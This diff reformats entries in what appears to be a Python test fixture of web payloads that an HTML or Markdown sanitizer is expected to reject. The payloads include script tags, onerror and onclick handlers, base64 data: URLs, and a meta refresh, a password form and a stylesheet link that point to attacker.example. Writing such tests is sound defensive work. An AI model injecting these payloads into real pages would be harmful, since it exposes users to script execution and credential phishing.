@@ -23,9 +23,18 @@ PAYLOADS = {
     "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://attacker.example/">', "<meta> element"),
     "form action": ('<form action="https://attacker.example/login"><input name="password"></form>', "<form> element"),
     "link stylesheet": ('<link rel="stylesheet" href="https://attacker.example/x.css">', "<link> element"),
-    "data:text/html link": ("[說明](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data: URL in a link"),
-    "svg use data:": ('<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>', "data: URL in an attribute"),
-    "attribute list onclick": ('按這裡{: onclick="alert(1)" }', "event handler attribute 'onclick' in an attribute list"),
+    "data:text/html link": (
+        "[說明](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "data: URL in a link",
+    ),
+    "svg use data:": (
+        '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
+        "data: URL in an attribute",
+    ),
+    "attribute list onclick": (
+        '按這裡{: onclick="alert(1)" }',
+        "event handler attribute 'onclick' in an attribute list",
+    ),
     "script": ("<script>alert(1)</script>", "<script> element"),
     "onerror": ('<img src="x.png" onerror="alert(1)">', "event handler attribute 'onerror'"),
     "onpointerenter": ('<b onpointerenter="alert(1)">x</b>', "event handler attribute 'onpointerenter'"),
